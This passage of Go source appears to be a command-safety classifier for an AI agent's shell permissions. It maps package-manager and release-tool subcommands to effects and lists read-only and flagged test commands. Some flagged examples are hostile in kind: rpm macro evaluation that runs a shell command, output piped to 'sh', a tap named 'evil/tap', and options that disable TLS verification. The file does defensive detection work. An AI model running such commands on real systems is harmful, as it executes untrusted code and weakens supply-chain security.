			Abbrev: true, Subcommands: zypper,
			ReadOnly: []string{"zypper search jq", "zypper se -i jq", "zypper info jq", "zypper lr", "zypper -q lu", "zypper --non-interactive search --installed-only jq"},
			Flagged:  []string{"zypper install jq", "zypper -n in jq", "zypper rm jq", "zypper dup", "zypper refresh", "zypper ar https://x.example/repo x", "zypper shell"}},
		&Spec{Names: n("apk"), Grant: Grant{Depth: 1, ExactSubs: "add del", Offers: []string{"apk info jq => Bash(apk info:*)", "apk add jq => Bash(apk add jq)"}}, Options: apkOpts, Abbrev: true, Permute: true,
			Subcommands: subs("add", apkDoes(Config), "del", apkDoes(Config), "fix", apkDoes(Config), "update", apkDoes(Config), "upgrade", apkDoes(Config), "cache", apkDoes(Config),
				"fetch", apkDoes(Network), "index", apkDoes(Write), "info", apkReads, "list", apkReads, "search", apkReads, "dot", apkReads, "policy", apkReads, "stats", apkReads,
				"verify", apkReads, "audit", apkReads, "version", apkReads, "manifest", apkReads),
			ReadOnly: []string{"apk info jq", "apk info -L jq", "apk list --installed", "apk search jq", "apk -q version", "apk policy jq"},
			Flagged:  []string{"apk add jq", "apk --no-cache add jq", "apk del jq", "apk update", "apk upgrade -U", "apk fetch jq"}},
		&Spec{Names: n("snap"), Grant: Grant{Depth: 1, ExactSubs: "install remove", Offers: []string{"snap list => Bash(snap list:*)", "snap install jq => Bash(snap install jq)"}}, Options: "-h|--help:h --version:h",
			Subcommands: subs("list", snapReads, "info", snapReads, "find", snapReads, "search", snapReads, "version", snapReads, "changes", snapReads, "change", snapReads,
				"tasks", snapReads, "connections", snapReads, "interface", snapReads, "interfaces", snapReads, "services", snapReads, "logs", snapReads, "get", snapReads,
				"known", snapReads, "aliases", snapReads, "warnings", snapReads, "help", snapReads, "model", snapReads, "whoami", snapReads, "saved", snapReads,
				"install", snapDoes(Config), "remove", snapDoes(Config), "refresh", snapDoes(Config), "revert", snapDoes(Config), "enable", snapDoes(Config), "disable", snapDoes(Config),
				"set", snapDoes(Config), "unset", snapDoes(Config), "connect", snapDoes(Config), "disconnect", snapDoes(Config), "alias", snapDoes(Config), "unalias", snapDoes(Config),
				"prefer", snapDoes(Config), "login", snapDoes(Config), "logout", snapDoes(Config), "start", snapDoes(Config), "stop", snapDoes(Config), "restart", snapDoes(Config),
				"switch", snapDoes(Config), "try", snapDoes(Config), "ack", snapDoes(Config), "okay", snapDoes(Config), "save", snapDoes(Config), "forget", snapDoes(Config),
				"restore", snapDoes(Config), "create-user", snapDoes(Config), "remove-user", snapDoes(Config), "buy", snapDoes(Network), "download", snapDoes(Network),
				"pack", snapDoes(Write), "run", snapDoes(Exec)),
			ReadOnly: []string{"snap list", "snap info jq", "snap find jq", "snap version", "snap changes", "snap services", "snap list --all"},
			Flagged:  []string{"snap install jq", "snap remove jq", "snap refresh", "snap run jq", "snap set system refresh.hold=x", "snap frobnicate"}},
		&Spec{Names: n("port"), Grant: Grant{Depth: 1, ExactSubs: "install uninstall", Offers: []string{"port installed => Bash(port installed:*)", "port install jq => Bash(port install jq)"}},
			Options: "-h|--help:h -b -c -d -f -k -n -o -p -q -R -s -t -u -v -y -N -D= -F=r",
			Subcommands: subs("list", portReads, "search", portReads, "info", portReads, "installed", portReads, "outdated", portReads, "contents", portReads, "deps", portReads,
				"rdeps", portReads, "dependents", portReads, "rdependents", portReads, "provides", portReads, "variants", portReads, "echo", portReads, "location", portReads,
				"dir", portReads, "url", portReads, "file", portReads, "work", portReads, "cat", portReads, "notes", portReads, "usage", portReads, "version", portReads,
				"platform", portReads, "help", portReads, "log", portReads, "logfile", portReads,
				"install", portDoes(Config), "uninstall", portDoes(Config), "upgrade", portDoes(Config), "selfupdate", portDoes(Config), "sync", portDoes(Config),
				"activate", portDoes(Config), "deactivate", portDoes(Config), "clean", portDoes(Config), "select", portDoes(Config), "load", portDoes(Config),
				"unload", portDoes(Config), "reload", portDoes(Config), "setrequested", portDoes(Config), "unsetrequested", portDoes(Config), "rev-upgrade", portDoes(Config),
				"reclaim", portDoes(Config), "migrate", portDoes(Config), "edit", portDoes(Exec), "gohome", portDoes(Exec), "fetch", portDoes(Network)),
			OtherSubcommand: Unknown,
			ReadOnly:        []string{"port installed", "port search jq", "port info jq", "port -q installed", "port contents jq", "port outdated"},
			Flagged:         []string{"port install jq", "port -N install jq", "port uninstall jq", "port selfupdate", "port load nginx", "port build jq"}},
		// rpm 4.18 (popt: bundled, permuted, no prefixes): the mode is an
		// option; -q (-qa, -qi, -ql), -V and -K read, the rest install,
		// erase or rebuild the database; -i is --install but --info
		// under -q. --eval expands macros, which run shell commands
		// (%(cmd)), and --pipe hands the output to a command.
		&Spec{Names: n("rpm"), Grant: Grant{Exact: true, Offers: []string{"rpm -qa => Bash(rpm -qa)"}}, Effect: Config, Permute: true, Operands: "-*",
			ReadWith: "--query --verify --checksig --showrc --querytags",
			Options: "--help:h --version:h --usage:h -q|--query -V|--verify -K|--checksig --showrc --querytags -i|--install|--info -U|--upgrade -F|--freshen -e|--erase " +
				"--import:c --rebuilddb:c --initdb:c --setperms:c --setugids:c --restore:c -E|--eval=x --pipe=x -a|--all -l|--list -f|--file -p|--package -c|--configfiles " +
				"-d|--docfiles -L|--licensefiles -R|--requires --provides --conflicts --obsoletes --recommends --suggests --supplements --enhances --whatprovides --whatrequires " +
				"--whatrecommends --whatsuggests --whatconflicts --whatobsoletes --scripts --triggers --changelog --changes --dump -s|--state --last --filesbypkg --fileclass " +
				"--filecolor --fileprovide --filerequire --filecaps --xml --qf|--queryformat= -g|--group -v|--verbose -h|--hash --percent --test --nodeps --force --replacepkgs " +
				"--replacefiles --oldpackage --excludedocs --nodigest --nosignature --noscripts --notriggers --justdb --allfiles --ignorearch --ignoreos --ignoresize " +
				"--prefix= --relocate= --excludepath= --root= --dbpath= --define|-D=u --undefine= --macros=u --rcfile=u --quiet",
			ReadOnly: []string{"rpm -qa", "rpm -qi jq", "rpm -ql jq", "rpm -q --queryformat '%{VERSION}' jq", "rpm -qf /usr/bin/jq", "rpm -Va", "rpm -K x.rpm", "rpm --version"},
			Flagged: []string{"rpm -i x.rpm", "rpm -ivh x.rpm", "rpm -Uvh x.rpm", "rpm -e jq", "rpm --erase jq", "rpm --import key.asc", "rpm --eval '%(id)'", "rpm -qa --pipe sh",
				"rpm -q --define '_dbpath /tmp' jq", "rpm --rebuilddb"}},
		&Spec{Names: n("brew"), Code: Code{ShellSetup: "*"}, Grant: Grant{Depth: 1, ExactSubs: "install uninstall", Offers: []string{"brew list => Bash(brew list:*)", "brew install jq => Bash(brew install jq)"}},
			Options: "-h|--help:h -v|--version:h --prefix --cellar --repository|--repo --cache --env --caskroom", OtherSubcommand: Unknown,
			Subcommands: subs("info", brewReads, "abv", brewReads, "list", brewReads, "ls", brewReads, "search", brewReads, "deps", brewReads, "uses", brewReads,
				"leaves", brewReads, "desc", brewReads, "config", brewReads, "doctor", brewReads, "dr", brewReads, "shellenv", brewReads,
				"commands", brewReads, "help", brewReads, "options", brewReads, "log", brewReads, "cat", brewReads, "formulae", brewReads, "casks", brewReads,
				"missing", brewReads, "tap-info", brewReads, "services", brewServices,
				"install", brewDoes(Config), "reinstall", brewDoes(Config), "uninstall", brewDoes(Config), "remove", brewDoes(Config), "rm", brewDoes(Config),
				"upgrade", brewDoes(Config), "update", brewDoes(Config), "outdated", brewDoes(Network), "tap", brewDoes(Config), "untap", brewDoes(Config),
				"link", brewDoes(Config), "ln", brewDoes(Config), "unlink", brewDoes(Config), "pin", brewDoes(Config), "unpin", brewDoes(Config), "cleanup", brewDoes(Config),
				"autoremove", brewDoes(Config), "analytics", brewDoes(Config), "developer", brewDoes(Config), "fetch", brewDoes(Network), "home", brewDoes(Exec),
				"edit", brewDoes(Exec), "sh", brewDoes(Exec), "ruby", brewDoes(Exec), "irb", brewDoes(Exec), "bundle", brewDoes(RunsProject), "create", brewDoes(Write)),
			ReadOnly: []string{"brew info jq", "brew list", "brew list --versions", "brew search jq", "brew deps --tree jq", "brew config", "brew --version", "brew services list", "brew leaves"},
			Flagged: []string{"brew install jq", "brew uninstall jq", "brew upgrade", "brew update", "brew tap evil/tap", "brew services start nginx", "brew sh", "brew bundle",
				"brew frobnicate"}},
	)
	add(publishers()...)
})

// publishers are the release tools whose one job is to publish: the
// publishing subcommand is the danger (PublishDeploy), unless the tool's
// own dry-run option is given.
func publishers() []*Spec {
	loose := func(e Effect, opts string) *Spec {
		return &Spec{Effect: e, Permute: true, Loose: true, Operands: "-*", Options: "-h|--help:h " + opts}
	}
	publishes := func(s *Spec, why, unless string, flagged, passes []string) *Spec {
		s.Raises = []Raise{{Kind: danger.PublishDeploy, Why: why, Unless: unless, Flagged: flagged, Passes: passes}}
		return s
	}
	// jsr 0.14.3 (npm jsr; bin.js read, --help observed): the command is
	// the first word; publish hands the rest to deno publish (clap:
	// --x=v or apart, no prefixes); the other commands read node's
	// parseArgs options. install/remove change package.json and
	// node_modules through the package manager; run and an unknown word
	// run a package.json script.
	jsrPublish := publishes(&Spec{Effect: Network, Permute: true, Loose: true, Operands: "-*",
		Options: "-h|--help:h --dry-run --token= --allow-slow-types --allow-dirty --provenance --no-provenance --set-version= -c|--config=r --no-config --check? --no-check?"},
		"jsr publish publishes the package", "--dry-run",
		[]string{"jsr publish", "jsr publish --allow-dirty", "jsr publish --token=t", "npx jsr publish --allow-slow-types"},
		[]string{"jsr publish --dry-run", "jsr publish --allow-dirty --dry-run", "jsr info @std/log"})
	jsrPkgs := "-P|--save-prod -D|--save-dev -O|--save-optional --npm --yarn --pnpm --bun --verbose --debug --canary"
	jsr := &Spec{Names: n("jsr"), Options: "-h|--help:h -v|--version:h", OtherSubcommand: RunsProject,
		Lasting: Lasting{Does: Publishes, Subs: "publish", Examples: []string{"jsr publish => publishes a package or release"}},
		Grant:   Grant{Depth: 1, ExactSubs: "publish", Offers: []string{"jsr add @std/log => Bash(jsr add:*)", "jsr publish => Bash(jsr publish)"}},
		Subcommands: subs("publish", jsrPublish,
			"info", &Spec{Effect: Network, Permute: true, Operands: "-?", Options: "-h|--help:h " + jsrPkgs},
			"show", &Spec{Effect: Network, Permute: true, Operands: "-?", Options: "-h|--help:h " + jsrPkgs},
			"view", &Spec{Effect: Network, Permute: true, Operands: "-?", Options: "-h|--help:h " + jsrPkgs},
			"i", loose(RunsProject, jsrPkgs), "install", loose(RunsProject, jsrPkgs), "add", loose(RunsProject, jsrPkgs),
			"r", loose(Write, jsrPkgs), "uninstall", loose(Write, jsrPkgs), "remove", loose(Write, jsrPkgs), "run", loose(RunsProject, jsrPkgs)),
		ReadOnly: []string{"jsr --version", "jsr --help"},
		Flagged:  []string{"jsr publish", "jsr publish --dry-run", "jsr add @std/log", "jsr remove @std/log", "jsr run build", "jsr build"}}
	// goreleaser 2.x (cobra/pflag; goreleaser.com/cmd reference):
	// short options bundle, --x=v or apart, no prefixes. release
	// publishes unless --snapshot (or Pro's --prepare) or --skip=publish
	// (a list: --skip=publish,announce or repeated), which the shell
	// package reads by name; publish, continue and announce publish or
	// announce a prepared release. build and release run the project's
	// hooks and builds.
	grGlobal := "-h|--help:h --verbose"
	grBuild := "-f|--config=r --clean --rm-dist --auto-snapshot --snapshot --skip= --id= -p|--parallelism= --timeout= --single-target -o|--output=w --deprecated"
	goreleaser := &Spec{Names: n("goreleaser"), Options: grGlobal + " -v|--version:h", OtherSubcommand: Unknown,
		Lasting: Lasting{Does: Publishes, Subs: "release publish continue announce", Examples: []string{"goreleaser release => publishes a package or release"}},
		Grant:   Grant{Depth: 1, ExactSubs: "release publish continue announce", Offers: []string{"goreleaser check => Bash(goreleaser check:*)", "goreleaser release => Bash(goreleaser release)"}},
		Subcommands: subs("release", &Spec{Effect: RunsProject, Permute: true, Options: grGlobal + " " + grBuild +
			" --draft --fail-fast -k|--key= --nightly --prepare --release-notes=r --release-notes-tmpl=r --release-header=r --release-header-tmpl=r --release-footer=r --release-footer-tmpl=r --split --skip-publish --skip-announce --skip-validate --skip-sign --skip-docker --skip-before"},
			"r", &Spec{Effect: RunsProject, Permute: true, Loose: true, Operands: "-*", Options: grGlobal + " " + grBuild + " --prepare --skip-publish"},
			"build", &Spec{Effect: RunsProject, Permute: true, Options: grGlobal + " " + grBuild},
			"b", &Spec{Effect: RunsProject, Permute: true, Options: grGlobal + " " + grBuild},
			"publish", loose(Network, "--verbose"), "continue", loose(Network, "--verbose"), "announce", loose(Network, "--verbose"),
			"check", &Spec{Permute: true, Operands: "r*", Options: grGlobal + " -f|--config=r -q|--quiet --deprecated"},
			"ck", &Spec{Permute: true, Operands: "r*", Options: grGlobal + " -f|--config=r -q|--quiet --deprecated"},
			"changelog", loose(Unknown, "--verbose"), "healthcheck", &Spec{Permute: true, Options: grGlobal + " -f|--config=r -q|--quiet"},
			"init", loose(Write, "--verbose"), "jsonschema", &Spec{Permute: true, Options: grGlobal + " -o|--output=w"},
			"completion", &Spec{Permute: true, Operands: "-?", Options: grGlobal}, "man", &Spec{Permute: true, Options: grGlobal},
			"help", &Spec{Permute: true, Operands: "-*", Options: grGlobal}),
		ReadOnly: []string{"goreleaser --version", "goreleaser check", "goreleaser check -f .goreleaser.yaml", "goreleaser healthcheck", "goreleaser help release"},
		Flagged:  []string{"goreleaser release", "goreleaser release --snapshot --clean", "goreleaser build --single-target", "goreleaser init", "goreleaser publish", "goreleaser frobnicate"}}
	// nuget 6.x (NuGet.exe; CommandLineParser.cs read): the command is
	// the first word; its options start with one dash, case-insensitive, unique prefixes accepted, the value
	// always the next word, anywhere among the arguments. push and delete
	// change what a feed serves; there is no dry run.
	nuget := &Spec{Names: n("nuget", "nuget.exe"), OtherSubcommand: Unknown,
		Lasting: Lasting{Does: Publishes, Subs: "push delete", Examples: []string{"nuget push x.nupkg => publishes a package or release"}},
		Grant:   Grant{Depth: 1, ExactSubs: "push delete", Offers: []string{"nuget restore => Bash(nuget restore:*)", "nuget push x.nupkg => Bash(nuget push x.nupkg)"}},
		Subcommands: subs("push", publishes(loose(Network, ""), "nuget push publishes a package", "",
			[]string{"nuget push x.1.0.nupkg -Source https://api.nuget.org/v3/index.json -ApiKey k", "nuget.exe push x.nupkg"}, []string{"nuget pack x.nuspec", "nuget list x"}),
			"delete", publishes(loose(Network, ""), "nuget delete unlists a published package", "", []string{"nuget delete x 1.0.0 -Source s -NonInteractive"}, []string{"nuget delete -help"}),
			"list", loose(Network, ""), "search", loose(Network, ""), "help", loose(Unknown, ""), "locals", loose(Unknown, ""),
			"install", loose(RunsProject, ""), "restore", loose(RunsProject, ""), "update", loose(RunsProject, ""), "pack", loose(RunsProject, ""),
			"add", loose(Write, ""), "init", loose(Write, ""), "spec", loose(Write, ""), "sign", loose(Write, ""), "verify", loose(Unknown, ""),
			"config", loose(Config, ""), "sources", loose(Config, ""), "setapikey", loose(Config, ""), "client-certs", loose(Config, ""), "trusted-signers", loose(Config, "")),
		Flagged: []string{"nuget push x.nupkg", "nuget restore", "nuget sources add -Name n -Source s", "nuget frobnicate"}}
	// pod (CocoaPods 1.x, CLAide; guides.cocoapods.org terminal
	// reference): options only as --x or --x=v, no short options, no
	// prefixes. install and update evaluate the Podfile (Ruby); trunk
	// push publishes the podspec to the public Specs repository, repo
	// push to a spec repository; trunk delete and deprecate change a
	// published pod.
	podGlobal := "-h|--help:h --verbose --silent --no-ansi"
	pod := func(e Effect) *Spec { return loose(e, "--verbose --silent --no-ansi") }
	podTrunk := &Spec{Options: podGlobal, OtherSubcommand: Unknown,
		Subcommands: subs("push", publishes(pod(Network), "pod trunk push publishes the pod", "",
			[]string{"pod trunk push", "pod trunk push X.podspec --allow-warnings", "pod --verbose trunk push X.podspec"}, []string{"pod trunk info X", "pod spec lint X.podspec"}),
			"delete", publishes(pod(Network), "pod trunk delete changes a published pod", "", []string{"pod trunk delete X 1.0.0"}, []string{"pod trunk delete --help"}),
			"deprecate", publishes(pod(Network), "pod trunk deprecate changes a published pod", "", []string{"pod trunk deprecate X", "pod trunk deprecate X --in-favor-of=Y"}, []string{"pod trunk deprecate --help"}),
			"info", pod(Network), "me", pod(Network), "register", pod(Config), "add-owner", pod(Network), "remove-owner", pod(Network))}
	podRepo := &Spec{Options: podGlobal, OtherSubcommand: Unknown,
		Subcommands: subs("push", publishes(pod(Network), "pod repo push publishes the podspec to a spec repository", "", []string{"pod repo push private X.podspec", "pod repo push private --allow-warnings"}, []string{"pod repo push --help", "pod repo list"}),
			"list", &Spec{Permute: true, Options: podGlobal + " --count-only"}, "add", pod(Config), "add-cdn", pod(Config), "update", pod(Network), "remove", pod(Config), "lint", pod(Unknown))}
	podc := &Spec{Names: n("pod"), Options: podGlobal + " --version:h", OtherSubcommand: Unknown,
		Lasting: Lasting{Does: Publishes, Subs: "trunk", Examples: []string{"pod trunk push => publishes a package or release"}},
		Grant:   Grant{Depth: 1, ExactSubs: "trunk repo", Offers: []string{"pod install => Bash(pod install:*)", "pod trunk push => Bash(pod trunk push)"}},
		Subcommands: subs("trunk", podTrunk, "repo", podRepo,
			"install", pod(RunsProject), "update", pod(RunsProject), "outdated", pod(RunsProject), "deintegrate", pod(Write), "init", pod(Write),
			"lib", pod(RunsProject), "spec", pod(Unknown), "search", pod(Network), "list", pod(Network), "try", pod(Exec), "cache", pod(Unknown),
			"env", &Spec{Permute: true, Options: podGlobal}, "setup", pod(Config), "plugins", pod(Unknown), "ipc", pod(Unknown)),
		ReadOnly: []string{"pod --version", "pod env", "pod repo list"},
		Flagged:  []string{"pod install", "pod update", "pod trunk push", "pod repo push private X.podspec", "pod frobnicate"}}
	return []*Spec{jsr, goreleaser, nuget, podc}
}

// uv's --allow-insecure-host (alias --trusted-host) is a global option
// (uv's clap arguments: global = true, alias = "trusted-host"): given
// before the command or after any subcommand, it turns TLS verification
// off for the hosts it names. clap takes no prefixes of long options.
const uvInsecureOpt = "--allow-insecure-host|--trusted-host=n"

func uvInsecureRaise(flagged ...string) Raise {
	return Raise{Kind: danger.SecurityDisable, With: "--allow-insecure-host", Medium: true, Why: "{prog} talks to a package index without TLS verification",
		Flagged: flagged, Passes: []string{"uv pip install requests", "uvx ruff check"}}
}

// uvInsecure declares the global option on every one of the entry's
// commands, each with its danger.
func uvInsecure(s *Spec) *Spec {
	r := uvInsecureRaise("uv pip install --allow-insecure-host pypi.x.example foo", "uv --allow-insecure-host=pypi.x.example pip install foo", "uv --trusted-host pypi.x.example sync",
		"uv pip install foo --trusted-host=pypi.x.example", "uv lock --allow-insecure-host x.example", "uv add --trusted-host x.example foo", "uv tool install --trusted-host x.example ruff",
		"/usr/local/bin/uv pip install --trusted-host x.example foo", "sudo uv pip install --trusted-host x.example foo", "env uv sync --trusted-host x.example")
	seen := map[*Spec]bool{}
	var walk func(*Spec, string)
	walk = func(c *Spec, path string) {
		if seen[c] {
			return
		}
		seen[c] = true
		if c != s {
			c.Options += " " + uvInsecureOpt
			r = uvInsecureRaise("uv" + path + " --trusted-host x.example")
		}
		c.Raises = append(c.Raises, r)
		for name, sub := range c.Subcommands {
			walk(sub, path+" "+name)
		}
	}
	walk(s, "")
	return s
}
